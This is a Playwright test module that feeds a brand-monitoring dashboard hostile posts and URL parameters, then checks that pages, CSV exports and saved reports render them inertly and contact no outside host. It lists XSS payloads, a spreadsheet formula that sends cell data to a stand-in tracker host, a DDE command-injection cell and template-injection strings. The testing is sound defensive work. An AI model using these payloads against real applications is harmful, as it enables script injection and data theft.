"""Talk that means harm: on every page, in files and in addresses it shows as typed, and nobody is asked for it."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request

pytestmark = [pytest.mark.browser, pytest.mark.thorough]

PATIENCE_MS = 60_000
FIRST = datetime(2026, 9, 1, 9, tzinfo=UTC)
TOUCHED = "window.__touched"
HOSTILE = {
    "script": f"<script>{TOUCHED}=1</script>",
    "handler": f"<img src=x onerror={TOUCHED}=2>",
    "drawing": f"<svg/onload={TOUCHED}=3>",
    "image": "![kettle](https://tracker.example/pixel.png)",
    "link": f"[a fine offer](javascript:{TOUCHED}=4)",
    "frame": "<iframe src=https://tracker.example/></iframe>",
    "style": "</style><style>body{display:none}</style>",
    "quotes": f'" onmouseover="{TOUCHED}=5" x=\'',
    "bidi": "was \u202egnp.yllacitsatnaf\u202c and \u2067odd\u2069",
    "zalgo": "z" + "\u0335\u0321\u035a\u0322" * 12 + "algo",
    "formula": '=HYPERLINK("https://tracker.example/"&A1,"open")',
    "command": "+cmd|' /C calc'!A0",
    "colour": ":red[stop] :rainbow[now] :blue-background[here]",
    "icon": ":material/home: :streamlit: :smile:",
    "braces": "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "maths": r"$\\frac{1}{0}$ and $$\\int$$ **loud** `code` ~~gone~~",
    "nothing": "null \u0000 \ufffe \u200b \ufeff",
}
LONG = "w" * 100_000
AUTHORS = ("<i>mallory</i>", ":red[bob]", "\u202eevil", "=1+1", "{{user}}", "plain_jane")
PLACES = ("**loud**", "<b>bold</b>", "slowcoffee", ":red[room]")
BRAND = "Kettle <b>& Sons</b> :red[x] {{9*9}}"
SAYINGS = (
    "My goal is to drink {} from my Copper Kettle every morning because {}",
    "I left Copper Kettle because {} and I am worried that {} comes back",
    "@copperkettle_hq why does my Copper Kettle show {}? Please help, {}",
    "Does anybody know how to stop {} on a Copper Kettle? {}",
    "I love my Copper Kettle, it never does {}. Best kettle, {}",
    "I could not reach Copper Kettle by phone: {} and {}",
)
ADDRESSED = (
    "brand",
    "date_range",
    "conversation",
    "words",
    "community",
    "source",
    "topic",
    "at",
    "tab",
    "part",
    "week",
    "posts",
    "page",
)


@dataclass
class Seen:
    """A tab with what it complained of, whom it asked, and what popped up."""

    page: Page
    errors: list[str] = field(default_factory=list)
    asked: set[str] = field(default_factory=set)
    boxes: list[str] = field(default_factory=list)

    def note_request(self, request: Request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme not in ("data", "blob", "file"):
            self.asked.add(parts.hostname or request.url)

    def settle(self) -> None:
        self.page.locator(".tw-footer").wait_for(timeout=PATIENCE_MS)
        self.page.locator("[data-testid=stApp][data-test-script-state=notRunning]").wait_for(timeout=PATIENCE_MS)
        self.page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")

    def harm(self) -> dict[str, object]:
        """What came of it that should not have."""
        found = self.page.evaluate(
            """() => ({
            touched: window.__touched ?? null,
            made: [...document.querySelectorAll(".tw :is(script, img, svg, iframe, style, object, embed, form)")]
                .map((one) => one.outerHTML.slice(0, 99)),
            handlers: [...document.querySelectorAll(".tw *")].filter((one) => one.getAttributeNames()
                .some((name) => name.startsWith("on"))).length,
            links: [...document.querySelectorAll(".tw a")].map((one) => [one.href, one.rel])
                .filter(([href, rel]) => !href.startsWith(location.origin) &&
                    !(/^https?:/.test(href) && rel.includes("noreferrer"))),
            read: document.querySelectorAll(".stMarkdownColoredText, [data-testid=stMarkdown] .katex").length,
            reckoned: /(^|\\s)(49|81)(\\s|$)/m.test(document.querySelector("h1")?.innerText ?? ""),
            wide: Math.max(0, document.querySelector("[data-testid=stMain]").scrollWidth - innerWidth),
        })"""
        )
        return {name: value for name, value in found.items() if value} | {
            name: told for name, told in {"errors": self.errors, "boxes": self.boxes}.items() if told
        }


@pytest.fixture(scope="module")
def hostile_address(
    tmp_path_factory: pytest.TempPathFactory, dashboard_of: Callable[[Path, str], Iterator[str]]
) -> Iterator[str]:
    """A dashboard over talk that is all of it hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "talkworthy.toml").write_text(
        f'[[brands]]\nname = "{BRAND}"\naliases = ["Copper Kettle"]\ncompetitors = ["Mornside"]\n'
        'official = { reddit = ["copperkettle_hq"] }\n[[brands]]\nname = "Mornside"\n'
    )
    (folder / "conversation.ndjson").write_text("\n".join(map(json.dumps, rows())))
    yield from dashboard_of(folder, "conversation.ndjson")


def rows() -> Iterator[dict[str, object]]:
    """One thread with each hostile thing in a post; and weeks in which several people say them in several places."""
    for number, typed in enumerate(HOSTILE.values()):
        there = {"source": "reddit", "thread": "reddit:all", "kind": "post", "community": "slowcoffee"}
        yield there | {
            "id": f"reddit:all_{number}" if number else "reddit:all",
            "reply_to": "reddit:all" if number else None,
            "author": f"reader_{number}",
            "text": f"Copper Kettle {typed}",
            "created_at": (FIRST + timedelta(days=20, minutes=number)).isoformat(),
        }
    texts = [*HOSTILE.values(), LONG]
    for number in range(3 * len(texts)):
        typed, other = texts[number % len(texts)], texts[(number * 5 + 1) % (len(texts) - 1)]
        root, began = f"reddit:t{number}", FIRST + timedelta(days=number % 80, hours=number % 9)
        for turn in range(5):
            text = SAYINGS[(number + turn) % len(SAYINGS)].format(typed if turn % 2 == 0 else "that", other)
            yield {
                "source": "reddit",
                "id": root if turn == 0 else f"{root}_{turn}",
                "thread": root,
                "reply_to": None if turn == 0 else root if turn == 1 else f"{root}_{turn - 1}",
                "kind": "post",
                "community": PLACES[number % len(PLACES)],
                "author": AUTHORS[(number + turn) % len(AUTHORS)],
                "title": f"Copper Kettle {typed}" if turn == 0 else "",
                "text": text,
                "url": f"javascript:{TOUCHED}=6" if turn == 1 else f"https://talk.example/{number}?a=1&b=\"'<x>",
                "created_at": (began + timedelta(minutes=7 * turn)).isoformat(),
            }


@pytest.fixture
def seen(browser: Browser) -> Iterator[Seen]:
    """A tab that at its end has asked nobody but us."""
    page = browser.new_page(viewport={"width": 390, "height": 844})
    page.set_default_timeout(PATIENCE_MS)
    watched = Seen(page)
    page.on("console", lambda one: watched.errors.append(one.text) if one.type == "error" else None)
    page.on("pageerror", lambda error: watched.errors.append(str(error)))
    page.on("request", watched.note_request)
    page.on("dialog", lambda box: (watched.boxes.append(box.message), box.dismiss()))
    yield watched
    page.close()
    assert watched.asked <= {"127.0.0.1"}


def test_every_page_shows_it_and_comes_to_no_harm(seen: Seen, hostile_address: str, tab_path: str):
    seen.page.goto(f"{hostile_address}/{tab_path}&date_range=all")
    seen.settle()

    assert seen.harm() == {}
    assert seen.page.locator("h1").count() == 1
    assert seen.page.get_by_text("Something went wrong loading this page").count() == 0


def test_it_reads_in_its_thread_as_it_was_typed(seen: Seen, hostile_address: str):
    seen.page.goto(f"{hostile_address}/?page=conversations&date_range=all&conversation=reddit%3Aall")
    seen.settle()

    words = [bare(post) for post in seen.page.locator(".tw-post .words").all_text_contents()]

    assert [typed for typed in HOSTILE.values() if not any(bare(typed) in post for post in words)] == []
    assert seen.harm() == {}


def bare(text: str) -> str:
    """Without white space and what cannot be seen, which HTML and the store may set otherwise."""
    return "".join(letter for letter in text if letter.isprintable() and not letter.isspace() and letter != "\ufffd")


def test_a_word_of_a_hundred_thousand_letters_keeps_to_its_page(seen: Seen, hostile_address: str):
    seen.page.goto(f"{hostile_address}/?page=conversations&date_range=all&conversation=reddit%3At{len(HOSTILE)}")
    seen.settle()

    assert seen.harm() == {}


@pytest.mark.parametrize("name", ADDRESSED)
def test_an_address_that_means_harm_is_passed_over_or_shown_as_typed(seen: Seen, hostile_address: str, name: str):
    typed = " ".join(HOSTILE[kind] for kind in ("handler", "quotes", "colour", "braces", "script"))
    page = "" if name == "page" else "page=conversations&"
    seen.page.goto(f"{hostile_address}/?{page}{name}={quote(typed)}")
    seen.settle()

    assert seen.harm() == {}
    assert seen.page.get_by_text("Something went wrong loading this page").count() == 0


def test_no_cell_of_an_export_is_a_formula(seen: Seen, hostile_address: str, tmp_path: Path):
    seen.page.goto(f"{hostile_address}/?page=conversations&date_range=all")
    seen.settle()
    with seen.page.expect_download() as download:
        seen.page.get_by_role("button", name="Download these posts").click()

    cells = [cell for row in csv.reader(io.StringIO(download.value.path().read_text("utf-8-sig"))) for cell in row]

    assert [cell[:40] for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert any(HOSTILE["formula"] in cell for cell in cells)


def test_a_report_that_was_handed_out_asks_nobody_and_runs_nothing(seen: Seen, hostile_address: str, tmp_path: Path):
    seen.page.goto(f"{hostile_address}/?page=reports&date_range=all")
    seen.settle()
    with seen.page.expect_download() as download:
        seen.page.get_by_role("button", name="Download").first.click()
    download.value.save_as(tmp_path / "report.html")
    seen.asked.clear()
    seen.page.goto((tmp_path / "report.html").as_uri())

    made = seen.page.evaluate("document.querySelectorAll('body :is(script, img, iframe, style, form, b > i)').length")
    links = seen.page.evaluate("[...document.links].map((one) => [one.protocol, one.rel])")

    assert (made, seen.page.evaluate(f"{TOUCHED} ?? null"), seen.asked, seen.boxes) == (0, None, set(), [])
    assert all(
        protocol in ("https:", "http:") and "noreferrer" in rel for protocol, rel in links if protocol != "file:"
    )
    assert BRAND in seen.page.locator("h1").inner_text()
